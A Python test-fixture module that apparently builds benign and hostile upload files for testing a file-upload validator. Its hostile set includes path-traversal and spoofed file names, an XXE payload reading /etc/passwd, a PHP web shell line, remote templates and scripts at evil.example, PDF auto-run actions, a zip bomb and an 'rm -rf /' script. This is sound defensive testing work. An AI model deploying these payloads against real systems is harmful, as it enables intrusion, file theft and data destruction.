"""Files built here, none of them from elsewhere: benign ones, and hostile ones of many sorts."""

import codecs
import io
import struct
import zipfile
import zlib

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
#: In two halves, so that a scanner leaves this file alone.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def pdf(text=b"An act on mutual legal assistance.", extra=b"") -> bytes:
    """A PDF of one page with its table of objects."""
    content = b"BT /F1 12 Tf 72 720 Td (" + text + b") Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources "
        b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]
    made, places = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 5\n0000000000 65535 f \n" + rows
    return made + table + b"trailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(made)


def package(parts: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP with these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def _types(main, content_type):
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Types '
        'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{content_type}"/></Types>'
    )


def _relations(main):
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/officeDocument" Target="{main}"/></Relationships>'
    )


def docx(more=None, document=None, content_type=DOCX_TYPE) -> bytes:
    """A document of one paragraph, and ``more`` parts."""
    text = document or (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
        '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Article 4 &lt;script&gt;'
        "</w:t></w:r></w:p></w:body></w:document>"
    )
    parts = {
        "[Content_Types].xml": _types("word/document.xml", content_type),
        "_rels/.rels": _relations("word/document.xml"),
        "word/document.xml": text,
    }
    return package({**parts, **(more or {})})


def xlsx(more=None) -> bytes:
    """A workbook with one sheet."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    parts = {
        "[Content_Types].xml": _types("xl/workbook.xml", XLSX_TYPE),
        "_rels/.rels": _relations("xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook {space}><sheets><sheet name="A" sheetId="1"/></sheets>'
        "</workbook>",
        "xl/worksheets/sheet1.xml": f"<worksheet {space}><sheetData/></worksheet>",
    }
    return package({**parts, **(more or {})})


def _chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width=2, height=2, more=b"") -> bytes:
    """A grey picture; a huge one only says that it is."""
    rows = b"".join(b"\x00" + b"\x80" * min(width, 4) for _row in range(min(height, 4)))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + more
        + _chunk(b"IDAT", zlib.compress(rows))
        + _chunk(b"IEND", b"")
    )


def jpg(width=8, height=8) -> bytes:
    """A picture of one grey block, with the shortest tables there can be."""

    def segment(marker, data):
        return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data

    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, b"\x00" + b"\x10" * 64)
        + segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
        + segment(0xC4, b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00")
        + segment(0xC4, b"\x10" + b"\x01" + b"\x00" * 15 + b"\x00")
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f\xff\xd9"
    )


CSV = "Country;Requests\nMozambique;12\nRuritania;7\n"
#: Name → content of what must be taken.
BENIGN = {
    "Act 2026.pdf": pdf(),
    "Report v1.2 (final).docx": docx(),
    "Statistics.xlsx": xlsx(),
    "Requests.csv": CSV.encode(),
    "Requests with a mark.csv": codecs.BOM_UTF8 + CSV.encode(),
    "Requests of a spreadsheet.csv": CSV.encode("utf-16"),
    "Old table.csv": "État;Année\nRuritanie;2019\n".encode("cp1252"),
    "MZ first.csv": b"MZ,Mozambique\nPK,Pakistan\n",
    "Note.txt": "Article 4 < Article 5 & “a > b”.\n".encode(),
    "مذكرة.txt": "قانون المساعدة".encode(),
    "Закон о выдаче.pdf": pdf(),
    "gov.pl statement.pdf": pdf(),
    "www.example.com.pdf": pdf(),
    "Plan.png": png(),
    "Large plan.png": png(19_866, 9_000),
    "Scan.jpg": jpg(),
    "Scan.JPEG": jpg(),
    "With a link.docx": docx(
        {
            "word/_rels/document.xml.rels": '<Relationships xmlns="x"><Relationship Id="r" '
            'Type="x/hyperlink" Target="https://example.org/" TargetMode="External"/>'
            "</Relationships>"
        }
    ),
    "Of a template.docx": docx(
        {
            "word/_rels/settings.xml.rels": '<Relationships xmlns="x"><Relationship Id="r" '
            'Type="x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>'
            "</Relationships>"
        }
    ),
}


def _declaring(size: int) -> bytes:
    """A document whose index says that one part unpacks to ``size``, in the long form."""
    made = docx({"word/large.xml": b"<a/>"})
    index = made.index(b"PK\x01\x02")
    place = made.index(b"word/large.xml", index) - 46
    entry = bytearray(made[place : place + 46 + len(b"word/large.xml")])
    entry[24:28] = b"\xff" * 4
    entry[30:32] = struct.pack("<H", 12)
    entry += struct.pack("<HHQ", 1, 8, size)
    before, after = made[:place], made[place + 46 + len(b"word/large.xml") :]
    end = bytearray(after)
    at = end.index(b"PK\x05\x06")
    [length] = struct.unpack("<I", end[at + 12 : at + 16])
    end[at + 12 : at + 16] = struct.pack("<I", length + 12)
    return before + bytes(entry) + bytes(end)


def _utf16(text):
    return text.encode("utf-16")


_XXE = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="x"><w:body>&x;</w:body></w:document>'
)
_BOMB = dict.fromkeys((f"word/part{number}.xml" for number in range(8)), bytes(30 * 1024**2))
_FETCHED = (
    '<Relationships xmlns="x"><Relationship Id="r" Type="x/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)

#: What it is → (name, content) of what must not be taken.
HOSTILE = {
    "a program by its name": ("evil.exe", b"MZ\x90\x00"),
    "no extension": ("evil", pdf()),
    "only an extension": (".pdf", pdf()),
    "a double extension": ("evil.php.pdf", pdf()),
    "a double extension, the other way": ("evil.pdf.exe", pdf()),
    "a double extension with a blank": ("evil.html .txt", b"text"),
    "a double extension, long ago": ("bill.exe.v2.pdf", pdf()),
    "a null byte in the name": ("evil.php\x00.pdf", pdf()),
    "a path that climbs": ("../../etc/cron.d/evil.txt", b"text"),
    "a path of Windows": ("..\\..\\evil.txt", b"text"),
    "an absolute path": ("/etc/passwd.txt", b"text"),
    "a drive": ("C:evil.txt", b"text"),
    "a stream of a file": ("evil.txt::$DATA.txt", b"text"),
    "a slash that looks like one": ("..\uff0fevil.txt", b"text"),
    "right to left override": ("evil\u202efdp.txt", b"text"),
    "an isolate": ("evil\u2066fdp.txt", b"text"),
    "a line feed in the name": ("evil\r\nSet-Cookie: a=b.txt", b"text"),
    "a mark that is not shown": ("evil\ufeff.txt", b"text"),
    "empty": ("empty.pdf", b""),
    "empty text": ("empty.txt", b"\xef\xbb\xbf \r\n"),
    "a picture called PDF": ("picture.pdf", png()),
    "a PDF called picture": ("document.png", pdf()),
    "a PNG called JPG": ("picture.jpg", png()),
    "a PDF called text": ("document.txt", pdf()),
    "a workbook called document": ("table.docx", xlsx()),
    "an archive called document": ("archive.docx", package({"a.txt": b"a"})),
    "an archive called text": ("archive.txt", package({"a.txt": b"a"})),
    "a program called PDF": ("program.pdf", b"MZ\x90\x00" + b"\x00" * 60),
    "a program called text": ("program.txt", b"MZ\x90\x00" + b"\x00" * 60),
    "a program of Unix called table": ("program.csv", b"\x7fELF\x02\x01\x01" + b"\x00" * 60),
    "a script called text": ("script.txt", b"#!/bin/sh\nrm -rf /\n"),
    "RTF called text": ("letter.txt", b"{\\rtf1\\ansi hello}"),
    "an old document": ("old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100),
    "a page called text": ("page.txt", HTML),
    "a page after much text": ("page.txt", b"word " * 40_000 + HTML),
    "a page called table": ("page.csv", b"a,b\n1,<script>alert(1)</script>\n"),
    "a page in two bytes a sign": ("page.txt", _utf16("<html><body onload=alert(1)>")),
    "a page in an old code page": ("page.txt", b"\xe9t\xe9 <ScRiPt src=//evil.example>"),
    "a link in text": ("page.txt", b'<a href="https://evil.example">here</a>'),
    "a page of a server": ("page.txt", b"<?php system($_GET[0]); ?>"),
    "a drawing": ("drawing.svg", SVG),
    "a drawing called text": ("drawing.txt", SVG),
    "a drawing called picture": ("drawing.png", SVG),
    "XML called text": ("feed.txt", b'<?xml version="1.0"?><a/>'),
    "the test virus": ("eicar.txt", EICAR),
    "the test virus in a PDF": ("eicar.pdf", pdf(EICAR)),
    "the test virus in two bytes a sign": ("eicar.txt", _utf16(EICAR.decode())),
    "the test virus, packed": ("eicar.docx", docx({"word/media/a.png": EICAR})),
    "the test virus on a seam": ("eicar.pdf", pdf(b"x" * (64 * 1024 - 400) + EICAR)),
    "a PDF behind junk": ("junk.pdf", b"junk\n" + pdf()),
    "a PDF behind a page": ("page.pdf", HTML + pdf()),
    "a PDF with a page behind": ("page.pdf", pdf() + HTML),
    "a PDF with an archive behind": ("archive.pdf", pdf() + package({"a.txt": b"a"})),
    "a PDF within an archive": (
        "archive.pdf",
        pdf() + package({"a.txt": b"a"}) + b"\n%%EOF\n",
    ),
    "a PDF cut off": ("cut.pdf", pdf()[:-12]),
    "a PDF with a script": (
        "script.pdf",
        pdf(extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
    ),
    "a PDF that starts a program": ("launch.pdf", pdf(extra=b"/OpenAction << /S /Launch >> ")),
    "a picture with a page behind": ("picture.png", png() + HTML),
    "a picture with an archive behind": ("picture.png", png() + package({"a": b"a"})),
    "a PDF with words behind": ("more.pdf", pdf() + b"more"),
    "a picture with words behind": ("more.png", png() + b"more"),
    "a JPG with words behind": ("more.jpg", jpg() + b"more"),
    "a document with words behind": ("more.docx", docx() + b"more"),
    "a picture with words of a page": ("picture.png", png(more=_chunk(b"tEXt", b"a\x00" + HTML))),
    "a JPG with a page behind": ("picture.jpg", jpg() + HTML),
    "a JPG with an archive behind": ("picture.jpg", jpg() + package({"a": b"a"})),
    "a picture of 50,000 pixels": ("huge.png", png(50_000, 50_000)),
    "a long picture": ("long.png", png(50_000, 1)),
    "a picture without pixels": ("none.png", png(0, 0)),
    "a JPG of 50,000 pixels": ("huge.jpg", jpg(50_000, 50_000)),
    "a picture cut off": ("cut.png", png()[:40]),
    "a JPG without a size": ("cut.jpg", b"\xff\xd8\xff\xd9"),
    "10 GB declared": ("bomb.docx", _declaring(10 * 1024**3)),
    "many times its size": ("bomb.docx", docx(_BOMB)),
    "too many parts": ("many.docx", docx({f"word/{n}.xml": b"<a/>" for n in range(2_500)})),
    "an archive within": ("nested.docx", docx({"word/media/a.png": package({"a": b"a"})})),
    "an archive within, by name": ("nested.docx", docx({"word/a.zip": b"a"})),
    "an object within": ("object.docx", docx({"word/embeddings/oleObject1.bin": b"a"})),
    "macros": ("macro.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macros by type": (
        "macro.docx",
        docx(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macros by name": ("macro.docm", docx({"word/vbaProject.bin": b"a"})),
    "macros in a workbook": ("macro.xlsx", xlsx({"xl/vbaProject.bin": b"a"})),
    "an entity from elsewhere": ("xxe.docx", docx(document=_XXE)),
    "an entity in two bytes a sign": ("xxe.docx", docx(document=_utf16(_XXE))),
    "an entity in another encoding": (
        "xxe.docx",
        docx(document='<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'),
    ),
    "an entity in a workbook": ("xxe.xlsx", xlsx({"xl/sharedStrings.xml": _XXE})),
    "a template from elsewhere": (
        "template.docx",
        docx({"word/_rels/settings.xml.rels": _FETCHED}),
    ),
    "a page in a document": ("page.docx", docx({"word/afchunk.html": HTML})),
    "a script in a drawing in a document": ("page.docx", docx({"word/media/a.svg": SVG})),
    "a part that climbs": ("slip.docx", docx({"../../evil.xml": b"<a/>"})),
    "a document behind a page": ("page.docx", HTML + docx()),
    "a document with a page behind": ("page.docx", docx() + HTML),
    "a document cut off": ("cut.docx", docx()[:-30]),
}
